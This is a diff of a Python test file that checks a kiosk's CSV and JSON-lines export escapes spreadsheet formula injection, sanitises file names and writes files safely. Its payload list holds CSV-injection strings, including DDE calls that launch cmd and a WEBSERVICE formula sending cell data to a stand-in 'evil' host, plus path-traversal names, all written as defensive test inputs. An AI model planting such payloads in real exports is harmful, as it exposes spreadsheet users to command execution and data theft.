@@ -1,42 +1,88 @@
-"""What is taken home: a table that a spreadsheet opens rightly."""
+"""What is taken home: a table that a spreadsheet or a program opens rightly."""
 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
+import json
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from kiosk.files.exports import BOM, COMPLETION_COLUMNS, csv_text, safe_cell
+from kiosk.desk.exporting_completions import SOURCE
+from kiosk.files.exports import (
+    BOM,
+    AlreadyThere,
+    Column,
+    Kind,
+    NotSaved,
+    Table,
+    csv_text,
+    form_of,
+    free_path,
+    json_lines,
+    safe_cell,
+    safe_stem,
+    save,
+    written,
+)
 
+MADE = dt.datetime(2026, 4, 10, 12, 0, tzinfo=dt.UTC)
 PAYLOADS = [
     "=1+1",
     '=HYPERLINK("http://evil","click")',
+    "=cmd|'/c calc'!A1",
+    '=WEBSERVICE("http://evil/"&A1)',
+    '=IMPORTXML("http://evil","//a")',
+    '=DDE("cmd";"/c calc";"!A0")',
     "+1+1",
+    "+cmd|'/c calc'!A0",
     "-2+3",
+    "-2+3+cmd|'/c calc'!A0",
     "@SUM(1)",
+    "@SUM(1+1)*cmd|'/c calc'!A0",
     "\t=1+1",
+    "\t1",
     "\r=1+1",
+    "\r1",
+    "\n=1+1",
+    "\r\n=1+1",
     "＝1+1",
     "＋1",
     "－1",
     "＠SUM(1)",
     " =1+1",
-    "\n=1+1",
+    "   +1",
     "\u00a0=1+1",
+    "\u2003=1+1",
+    "\u3000=1+1",
     "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u200e=1+1",
+    "\u202e=1+1",
+    "\x00=1+1",
+    "\x0b=1+1",
+    " \t =1+1",
 ]
+"""What a spreadsheet would run, or might."""
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
 def test_no_cell_runs_as_a_formula(payload: str) -> None:
     safe = safe_cell(payload)
     assert safe == "'" + payload
-    (row,) = csv.reader(io.StringIO(csv_text(["name"], [{"name": payload}]).split("\n", 1)[1]))
-    assert row == ["'" + payload]
+    said = csv_text(["name"], [[payload]])
+    (head, row) = csv.reader(io.StringIO(said, newline=""))
+    assert (head, row) == (["name"], ["'" + payload])
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nor_does_a_heading(payload: str) -> None:
+    (head,) = csv.reader(io.StringIO(csv_text([payload], []), newline=""))
+    assert head == ["'" + payload]
 
 
 @pytest.mark.parametrize(
@@ -60,9 +106,15 @@ def test_what_is_harmless_stays_as_it_is(text: str) -> None:
 
 
 def test_what_is_not_text() -> None:
-    assert safe_cell(None) == ""
-    assert safe_cell(0) == "0"
-    assert safe_cell(540) == "540"
+    zone = dt.timezone(-dt.timedelta(hours=4))
+    row = [None, 0, 540, -3, 1.5, dt.date(2026, 4, 10), dt.datetime(2026, 4, 10, 9, tzinfo=zone)]
+    said = csv_text(list("abcdefg"), [row]).splitlines()[1]
+    assert said == ",0,540,-3,1.5,2026-04-10,2026-04-10T09:00:00-04:00"
+    (line,) = json_lines(list("abcdefg"), [row]).splitlines()
+    assert json.loads(line) == {
+        "a": "", "b": 0, "c": 540, "d": -3, "e": 1.5,
+        "f": "2026-04-10", "g": "2026-04-10T09:00:00-04:00",
+    }  # fmt: skip
 
 
 @given(st.text(max_size=30))
@@ -73,23 +125,27 @@ def test_what_a_spreadsheet_sees_never_begins_as_a_formula(text: str) -> None:
 
 @given(st.lists(st.lists(st.text(max_size=12), min_size=2, max_size=2), max_size=5))
 def test_a_reader_gets_back_what_was_written(rows: list[list[str]]) -> None:
-    said = csv_text(["one", "two"], [{"one": one, "two": two} for one, two in rows])
+    said = csv_text(["one", "two"], rows)
     read = list(csv.reader(io.StringIO(said, newline="")))
     assert read == [["one", "two"], *([safe_cell(cell) for cell in row] for row in rows)]
+    lines = json_lines(["one", "two"], rows).splitlines()
+    assert [list(json.loads(line).values()) for line in lines] == rows
 
 
 def test_a_file_with_the_mark_is_read_as_utf_8(tmp_path: Path) -> None:
     path = tmp_path / "completions.csv"
-    rows = [{"name": "Marie-Ève d’Amours", "local": 'Señor; "Ñ",\nžluťoučký'}]
-    path.write_bytes((BOM + csv_text(["name", "local"], rows)).encode())
-    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
+    rows = [["Marie-Ève d’Amours", 'Señor; "Ñ",\nžluťoučký']]
+    table = Table((Column("name", "name"), Column("local", "local")), rows)
+    path.write_bytes(written(table, "csv", made=MADE))
+    assert path.read_bytes().startswith(BOM.encode())
     with path.open(encoding="utf-8-sig", newline="") as file:
-        assert list(csv.DictReader(file)) == rows
+        assert list(csv.reader(file)) == [["name", "local"], *rows]
     assert b"\r\n" in path.read_bytes()
+    assert not written(table, "csv", made=MADE, mark=False).startswith(BOM.encode())
 
 
 def test_the_columns_that_reps_count_on() -> None:
-    assert COMPLETION_COLUMNS[:6] == (
+    assert SOURCE.usual[:6] == (
         "member_number",
         "name",
         "local",
@@ -97,8 +153,52 @@ def test_the_columns_that_reps_count_on() -> None:
         "offering",
         "completed_on",
     )
+    assert SOURCE.columns["member_number"][0] is Kind.TEXT
 
 
-def test_a_column_that_is_missing_is_a_mistake_of_ours() -> None:
-    with pytest.raises(KeyError):
-        csv_text(["name"], [{"title": "x"}])
+@pytest.mark.parametrize(
+    ("name", "form"),
+    [("a.csv", "csv"), ("a.XLSX", "xlsx"), ("a.jsonl", "jsonl"), ("a.json", "json"), ("a", "csv")],
+)
+def test_the_ending_says_the_form(name: str, form: str) -> None:
+    assert form_of(Path(name)) == form
+
+
+# ---- names of files
+
+
+@pytest.mark.parametrize("name", ["con", "NUL", "com1", "lpt9", "../../etc", "", "…", "a/b\\c:d"])
+def test_a_name_is_safe_on_every_system(name: str) -> None:
+    stem = safe_stem(name)
+    assert stem.lower() not in ("con", "nul", "com1", "lpt9", "")
+    assert set(stem) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
+
+
+@given(st.text(max_size=200), st.text(max_size=20))
+def test_whatever_it_is_made_of(one: str, other: str) -> None:
+    stem = safe_stem(one, other)
+    assert 0 < len(stem) <= 85
+    assert set(stem) <= set("abcdefghijklmnopqrstuvwxyz0123456789-")
+
+
+def test_a_free_name_is_one_that_nothing_has(tmp_path: Path) -> None:
+    names = []
+    for _ in range(3):
+        path = free_path(tmp_path, "completions", ".csv")
+        path.write_text("")
+        names.append(path.name)
+    assert names == ["completions.csv", "completions-2.csv", "completions-3.csv"]
+
+
+def test_a_file_is_written_whole_or_not(tmp_path: Path) -> None:
+    path = tmp_path / "x.csv"
+    save(path, b"one")
+    with pytest.raises(AlreadyThere):
+        save(path, b"two")
+    save(path, b"three", overwrite=True)
+    assert [file.name for file in tmp_path.iterdir()] == ["x.csv"]
+    assert path.read_bytes() == b"three"
+    with pytest.raises(NotSaved, match="is a folder"):
+        save(tmp_path, b"four", overwrite=True)
+    with pytest.raises(NotSaved, match="cannot be written"):
+        save(path / "y.csv", b"five")
